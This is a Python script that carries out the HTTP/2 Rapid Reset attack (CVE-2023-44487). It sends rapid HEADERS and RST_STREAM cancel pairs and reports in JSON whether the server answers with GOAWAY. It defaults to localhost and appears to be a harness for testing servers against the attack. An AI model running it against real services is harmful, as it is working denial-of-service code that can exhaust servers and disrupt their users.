#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487): opens streams and cancels each at once with RST_STREAM, as fast as it can.

Usage: h2_rapid_reset.py --port PORT [--host 127.0.0.1] [--tls] [--count 2000] [--timeout SECONDS]

Sends up to COUNT pairs of HEADERS (GET /, END_STREAM) + RST_STREAM (CANCEL), stopping at the server's first
GOAWAY, then reads until a GOAWAY arrives, the server closes, or the timeout passes.
Prints: {"sent": pairs sent, "goaways": [{error_code, last_stream_id, debug, at}], "closed": bool,
         "responses": response HEADERS seen, "elapsed": seconds, "error": str or null}
"""
import argparse
import json
import time

import h2.errors
import h2.events
import h2.exceptions

from h2common import Wire, goaway_json


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--count", type=int, default=2000)
    ap.add_argument("--timeout", type=float, default=10.0)
    args = ap.parse_args()

    wire = Wire(args.host, args.port, args.tls)
    start = time.monotonic()
    goaways = []
    responses = 0
    sent = 0
    error = None

    def handle(events):
        nonlocal responses
        for ev in events or []:
            if isinstance(ev, h2.events.ConnectionTerminated):
                goaways.append(goaway_json(ev, time.monotonic() - start))
            elif isinstance(ev, h2.events.ResponseReceived):
                responses += 1

    headers = wire.request_headers("GET", "/")
    try:
        while sent < args.count and not goaways and not wire.closed and not wire.write_failed:
            for _ in range(20):
                sid = wire.conn.get_next_available_stream_id()
                wire.conn.send_headers(sid, headers, end_stream=True)
                wire.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
            wire.flush()
            handle(wire.read(0.0005))
        while not goaways and not wire.closed and time.monotonic() - start < args.timeout:
            handle(wire.read(0.05))
    except h2.exceptions.ProtocolError as e:
        error = "%s: %s" % (type(e).__name__, e)
    wire.close()
    print(json.dumps({"sent": sent, "goaways": goaways, "closed": wire.closed, "responses": responses,
                      "elapsed": round(time.monotonic() - start, 3), "error": error}))


if __name__ == "__main__":
    main()
